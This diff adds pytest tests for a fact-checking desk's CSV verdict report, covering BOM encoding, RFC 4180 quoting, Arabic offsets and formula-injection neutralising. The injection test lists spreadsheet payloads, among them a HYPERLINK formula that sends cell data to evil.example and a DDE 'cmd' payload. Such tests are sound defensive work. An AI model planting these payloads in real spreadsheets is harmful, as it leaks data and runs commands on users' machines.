@@ -1,0 +1,230 @@
+"""The verdict report: UTF-8 with BOM, RFC 4180, ISO times, formula-safe, exact Arabic."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import datetime
+
+import pytest
+from core_support import digest
+
+from factcheck.export import CSV_COLUMNS, neutralise_cell, write_csv_report
+from factcheck.model import InvalidInput, NotFound, SourceInput
+
+DOMAIN_COLUMNS = {
+    "claim_id",
+    "article_id",
+    "article_title",
+    "publisher",
+    "article_url",
+    "claim_text",
+    "start",
+    "end",
+    "sentence_number",
+    "status_id",
+    "status_label_ar",
+    "status_label_en",
+    "rating_value",
+    "source_urls",
+    "source_titles",
+    "archive_urls",
+    "note",
+    "annotator",
+    "created_at",
+    "updated_at",
+}
+
+
+def _read(path):
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def _dicts(path):
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+@pytest.fixture
+def marked(seeded_desk):
+    """Claims on both seed articles, one with two sources and a tricky note."""
+    d = seeded_desk
+    c1 = d.add_claim_for_sentence(
+        1,
+        2,
+        status_id="false",
+        note='قالت الشركة: "أُرسل البريد خطأً"، ثم تراجعت,\nسطر ثانٍ',
+        sources=[
+            SourceInput(
+                "https://www.example.com/amazon-tiktok",
+                title="Amazon says TikTok email was sent in error",
+                archive_url="https://web.archive.org/web/2020/https://www.example.com/amazon-tiktok",
+                stance="refutes",
+            ),
+            SourceInput("https://news.example.org/ar/أمازون", title="أمازون تتراجع"),
+        ],
+    )
+    text2 = d.article(2).text
+    start = text2.index("امازون")
+    c2 = d.add_claim(2, start, start + len("امازون"), status_id="mostly_true")
+    return d, c1, c2
+
+
+def test_csv_has_bom_header_and_round_trips_arabic(marked, tmp_path):
+    desk, c1, c2 = marked
+    out = tmp_path / "report.csv"
+    assert write_csv_report(desk, out) == 2
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    assert not raw.startswith(b"\xef\xbb\xbf\xef\xbb\xbf")
+    assert b"\r\n" in raw  # RFC 4180 line ends
+    assert DOMAIN_COLUMNS <= set(CSV_COLUMNS)
+    rows = _read(out)
+    assert tuple(rows[0]) == CSV_COLUMNS
+    assert all(len(r) == len(CSV_COLUMNS) for r in rows)
+    by_id = {int(r["claim_id"]): r for r in _dicts(out)}
+    assert set(by_id) == {c1.id, c2.id}
+    for claim in (c1, c2):
+        row = by_id[claim.id]
+        article = desk.article(claim.article_id)
+        assert row["claim_text"] == claim.quote
+        assert (int(row["start"]), int(row["end"])) == (claim.start, claim.end)
+        assert article.text[int(row["start"]) : int(row["end"])] == row["claim_text"]
+        assert row["article_title"] == article.title
+        assert int(row["article_id"]) == claim.article_id
+        assert row["annotator"] == "amal"
+    r1, r2 = by_id[c1.id], by_id[c2.id]
+    assert r1["claim_text"] == "شركة أمازون تتراجع إلى الوراء خطوة بشأن تيك توك"
+    assert r2["claim_text"] == "امازون"
+    assert (
+        r1["status_id"],
+        r1["status_label_ar"],
+        r1["status_label_en"],
+        r1["rating_value"],
+    ) == (
+        "false",
+        "زائف",
+        "False",
+        "1",
+    )
+    assert (r2["status_label_ar"], r2["rating_value"]) == ("صحيح في معظمه", "4")
+    assert r1["sentence_number"] == "2"
+    # The note with quotes, a comma and a line break survives RFC 4180 quoting.
+    assert r1["note"] == c1.note
+
+
+def test_multi_value_cells_are_joined_with_pipe(marked, tmp_path):
+    desk, c1, c2 = marked
+    out = tmp_path / "r.csv"
+    write_csv_report(desk, out)
+    by_id = {int(r["claim_id"]): r for r in _dicts(out)}
+    r1 = by_id[c1.id]
+    assert r1["source_urls"] == (
+        "https://www.example.com/amazon-tiktok | https://news.example.org/ar/أمازون"
+    )
+    assert r1["source_titles"] == (
+        "Amazon says TikTok email was sent in error | أمازون تتراجع"
+    )
+    assert r1["archive_urls"] == (
+        "https://web.archive.org/web/2020/https://www.example.com/amazon-tiktok"
+    )
+    assert by_id[c2.id]["source_urls"] == ""
+
+
+def test_timestamps_are_iso_8601_with_offset(marked, tmp_path):
+    desk, c1, _ = marked
+    desk.set_status(c1.id, "misleading")
+    out = tmp_path / "r.csv"
+    write_csv_report(desk, out)
+    for row in _dicts(out):
+        created = datetime.fromisoformat(row["created_at"])
+        updated = datetime.fromisoformat(row["updated_at"])
+        assert created.tzinfo is not None and created.utcoffset() is not None
+        assert updated.tzinfo is not None
+        assert updated >= created
+    stored = desk.claim(c1.id)
+    row = next(r for r in _dicts(out) if int(r["claim_id"]) == c1.id)
+    assert row["updated_at"] == stored.updated_at
+    assert row["status_label_en"] == "Misleading"
+
+
+@pytest.mark.parametrize(
+    "note",
+    [
+        '=HYPERLINK("http://evil.example/?q="&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A3)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_formula_injection_is_neutralised(seeded_desk, tmp_path, note):
+    claim = seeded_desk.add_claim_for_sentence(1, 3, note=note)
+    out = tmp_path / "r.csv"
+    write_csv_report(seeded_desk, out)
+    (row,) = _dicts(out)
+    assert row["note"] == "'" + note
+    assert seeded_desk.claim(claim.id).note == note  # the database keeps the real note
+
+
+def test_safe_cells_are_left_alone():
+    assert neutralise_cell("قال الوزير = كذا") == "قال الوزير = كذا"
+    assert neutralise_cell(12) == "12"
+    assert neutralise_cell(None) == ""
+    assert neutralise_cell("=1") == "'=1"
+
+
+def test_existing_file_is_not_overwritten_without_permission(marked, tmp_path):
+    desk, _, _ = marked
+    out = tmp_path / "r.csv"
+    out.write_text("precious spreadsheet\n", encoding="utf-8")
+    before = digest(out)
+    with pytest.raises(InvalidInput, match="already exists"):
+        write_csv_report(desk, out)
+    assert digest(out) == before
+    assert write_csv_report(desk, out, overwrite=True) == 2
+    assert _read(out)[0] == list(CSV_COLUMNS)
+    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".factcheck-")]
+
+
+def test_article_filter(marked, tmp_path):
+    desk, _, c2 = marked
+    out = tmp_path / "only2.csv"
+    assert write_csv_report(desk, out, article_id=2) == 1
+    rows = _dicts(out)
+    assert [int(r["claim_id"]) for r in rows] == [c2.id]
+    with pytest.raises(NotFound):
+        write_csv_report(desk, tmp_path / "none.csv", article_id=77)
+    assert not (tmp_path / "none.csv").exists()
+
+
+def test_missing_folder_and_folder_target_give_clear_errors(marked, tmp_path):
+    desk, _, _ = marked
+    with pytest.raises(InvalidInput, match="does not exist"):
+        write_csv_report(desk, tmp_path / "no" / "such" / "r.csv")
+    assert not (tmp_path / "no").exists()
+    with pytest.raises(InvalidInput, match="folder"):
+        write_csv_report(desk, tmp_path)
+
+
+def test_empty_report_has_header_only(desk, tmp_path):
+    out = tmp_path / "empty.csv"
+    assert write_csv_report(desk, out) == 0
+    raw = out.read_bytes()
+    assert raw == b"\xef\xbb\xbf" + (",".join(CSV_COLUMNS) + "\r\n").encode()
+
+
+def test_emoji_claim_offsets_in_csv_are_code_points(desk, tmp_path):
+    aid = desk.import_text("😀 خبر: قال الوزير").article_id
+    desk.add_claim(aid, 11, 17)
+    out = tmp_path / "e.csv"
+    write_csv_report(desk, out)
+    (row,) = _dicts(out)
+    assert (row["start"], row["end"], row["claim_text"]) == ("11", "17", "الوزير")
+    # Independent parse of the raw bytes agrees with the utf-8-sig reading.
+    text = out.read_bytes().decode("utf-8")
+    assert text[0] == "\ufeff"
+    parsed = list(csv.reader(io.StringIO(text[1:], newline="")))
+    assert parsed[1][CSV_COLUMNS.index("claim_text")] == "الوزير"
